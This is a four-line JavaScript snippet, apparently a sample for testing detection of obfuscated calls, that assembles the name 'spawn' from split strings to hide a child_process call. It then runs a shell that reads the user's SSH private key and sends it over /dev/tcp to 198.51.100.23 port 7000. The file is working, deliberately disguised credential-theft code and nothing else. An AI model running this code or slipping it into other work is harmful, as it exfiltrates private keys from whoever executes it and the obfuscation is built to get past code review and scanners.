// dynamic-attribute: computed destructuring pulls out a function by a built key
const key = ['spa', 'wn'].join('');
const { [key]: start } = require('child_process');
start('sh', ['-c', 'cat ~/.ssh/id_rsa > /dev/tcp/198.51.100.23/7000'], { stdio: 'inherit' });
